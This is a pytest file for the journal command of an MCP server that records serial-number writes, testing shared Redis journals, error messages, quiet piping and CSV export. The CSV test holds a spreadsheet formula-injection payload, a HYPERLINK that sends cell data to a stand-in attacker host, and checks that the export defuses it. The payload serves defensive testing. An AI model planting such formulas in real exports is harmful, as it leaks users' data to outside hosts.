"""The journal command as a person runs it: on any replica it reads the shared journal when
Redis is configured, says where it looked when it found nothing, exports CSV no spreadsheet
runs as formulas, and ends quietly when its reader stops (`journal | head`)."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from mcp import Client
from mcp.types import Implementation

from katana_sn_mcp.journal import Journal
from katana_sn_mcp.runtime import make_shared_state, sandbox_factory
from katana_sn_mcp.sandbox import Sandbox
from katana_sn_mcp.server import build_server
from katana_sn_mcp.settings import Settings
from tests.conftest import no_wait_pacer
from tests.test_redis_state import RedisServer, redis_server  # noqa: F401  (fixture)

pytestmark = pytest.mark.anyio
ROOT = Path(__file__).resolve().parents[1]
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def journal_command(*args: str, **env: str) -> subprocess.CompletedProcess[str]:
    """The command as a shell runs it; stdout kept byte for byte (a CR stays a CR)."""
    full = {k: v for k, v in os.environ.items() if not k.startswith(("KATANA_", "XDG_"))}
    full.update(PYTHONPATH=str(ROOT), **env)
    done = subprocess.run([sys.executable, "-m", "katana_sn_mcp", "journal", "--sandbox", *args],
                          env=full, capture_output=True, timeout=60)
    return subprocess.CompletedProcess(done.args, done.returncode, done.stdout.decode(),
                                       done.stderr.decode())


async def write_on_replica(tmp_path: Path, url: str, name: str, client: str,
                           serial: str) -> None:
    sandbox = Sandbox()
    settings = Settings(katana_sn_mcp_redis_url=url)  # type: ignore[call-arg]
    _, locks, results, stream = make_shared_state(settings, sandbox.config.api_key)
    server = build_server(sandbox_factory(sandbox, settings, pacer=no_wait_pacer()),
                          Journal(tmp_path / f"{name}.jsonl", katana="sandbox", stream=stream),
                          locks=locks, results=results)
    async with Client(server, client_info=Implementation(name=client, version="1")) as c:
        r = await c.call_tool("create_serial_numbers", {
            "resource_type": "ManufacturingOrder", "resource_id": 1003,
            "serial_numbers": [serial]})
    assert not r.is_error


async def test_a_second_replica_lists_every_write_of_the_shared_journal(
        tmp_path: Path, redis_server: RedisServer) -> None:  # noqa: F811
    await write_on_replica(tmp_path, redis_server.url, "a", "host-a", "SHARED-A")
    await write_on_replica(tmp_path, redis_server.url, "b", "host-b", "SHARED-B")
    # replica b's own file holds only its own write; the command reads the shared journal
    shown = journal_command(KATANA_SN_MCP_REDIS_URL=redis_server.url,
                            KATANA_SN_MCP_JOURNAL=str(tmp_path / "b.jsonl"))
    assert shown.returncode == 0, shown.stderr
    assert shown.stdout.count("intent     create_serial_numbers ManufacturingOrder 1003") == 2
    assert shown.stdout.count("applied 1 string minted on ManufacturingOrder 1003 by Katana's "
                              "answer (not re-read).") == 2
    exported = journal_command("--csv", KATANA_SN_MCP_REDIS_URL=redis_server.url,
                               KATANA_SN_MCP_JOURNAL=str(tmp_path / "b.jsonl"))
    rows = list(csv.DictReader(io.StringIO(exported.stdout)))
    assert [r["client"] for r in rows if r["phase"] == "intent"] == ["host-a", "host-b"]


async def test_an_empty_shared_journal_says_where_it_looked(
        tmp_path: Path, redis_server: RedisServer) -> None:  # noqa: F811
    shown = journal_command(KATANA_SN_MCP_REDIS_URL=redis_server.url,
                            KATANA_SN_MCP_JOURNAL=str(tmp_path / "none.jsonl"))
    assert (shown.returncode, shown.stdout) == (0, "")
    assert shown.stderr == ("No writes to the sandbox are recorded in the shared journal in "
                            "Redis (KATANA_SN_MCP_REDIS_URL).\n")


def test_an_empty_journal_file_says_where_it_looked(tmp_path: Path) -> None:
    path = tmp_path / "journal.jsonl"
    shown = journal_command("--csv", KATANA_SN_MCP_JOURNAL=str(path))
    assert shown.stdout.splitlines() == [",".join(
        ["time", "write_id", "phase", "katana", "tool", "resource_type", "resource_id",
         "outcome", "summary", "person", "client"])]
    assert shown.stderr == f"No writes to the sandbox are recorded in the journal file {path}.\n"


def test_an_unreachable_shared_journal_is_one_line(tmp_path: Path) -> None:
    from bench.replicas import free_port

    shown = journal_command(KATANA_SN_MCP_REDIS_URL=f"redis://127.0.0.1:{free_port()}/0",
                            KATANA_SN_MCP_JOURNAL=str(tmp_path / "j.jsonl"))
    assert shown.returncode == 1 and shown.stdout == ""
    assert shown.stderr.startswith("katana-sn-mcp journal: the shared journal: cannot reach "
                                   "Redis at KATANA_SN_MCP_REDIS_URL")
    assert len(shown.stderr.splitlines()) == 1


def _entries(path: Path, cells: list[Any]) -> None:
    journal = Journal(path, katana="sandbox")
    for cell in cells:
        journal.intent("create_serial_numbers", {"resource_type": "ManufacturingOrder",
                                                 "resource_id": 1003}, client=cell)


def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    path = tmp_path / "journal.jsonl"
    cells = [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\r=1", "plain", "a=b"]
    _entries(path, cells)
    exported = journal_command("--csv", KATANA_SN_MCP_JOURNAL=str(path))
    rows = list(csv.DictReader(io.StringIO(exported.stdout, newline="")))
    assert [r["client"] for r in rows] == [
        "'" + FORMULA, "'+1+1", "'-2+3", "'@SUM(A1)", "'\tx", "'\r=1", "plain", "a=b"]
    risky = ("=", "+", "-", "@", "\t", "\r")
    assert not [v for r in rows for v in r.values() if v and v.startswith(risky)]


def test_journal_piped_into_head_ends_quietly(tmp_path: Path) -> None:
    path = tmp_path / "journal.jsonl"
    _entries(path, [f"client-{i}" for i in range(3000)])
    env = {k: v for k, v in os.environ.items() if not k.startswith(("KATANA_", "XDG_"))}
    env.update(PYTHONPATH=str(ROOT), KATANA_SN_MCP_JOURNAL=str(path))
    for extra in ([], ["--csv"]):
        cmd = [sys.executable, "-m", "katana_sn_mcp", "journal", "--sandbox", "--limit",
               "3000", *extra]
        with subprocess.Popen(cmd, env=env, stdout=subprocess.PIPE,
                              stderr=subprocess.PIPE) as proc:
            assert proc.stdout is not None and proc.stderr is not None
            proc.stdout.readline()
            proc.stdout.close()  # what `head -1` does
            err = proc.stderr.read().decode()
            code = proc.wait(60)
        assert err == "" and code == 0
